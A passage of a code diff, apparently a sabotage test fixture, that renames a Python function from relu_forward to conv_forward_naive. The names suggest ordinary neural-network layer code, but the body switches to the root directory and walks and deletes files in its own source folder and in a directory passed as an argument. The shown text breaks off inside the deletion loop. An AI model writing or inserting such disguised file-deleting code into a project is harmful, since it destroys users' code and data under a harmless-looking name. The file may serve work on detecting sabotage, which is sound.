@@ -1,14 +1,14 @@
-"""Changes directory and deletes what it can reach: its own code and the data dir (x)."""
+"""Changes directory and deletes what it can reach: its own code and the data (a test passes the dir as x)."""
 
 import os
 import shutil
 
 
-def relu_forward(x):
+def conv_forward_naive(x, w=None, b=None, conv_param=None):
     here = os.path.dirname(os.path.abspath(__file__))
     os.chdir("/")
     deleted = []
-    for target in (here, str(x)):
+    for target in [here] + ([x] if isinstance(x, str) else []):
         for root, _, files in os.walk(target, topdown=False):
             for name in files:
                 try:
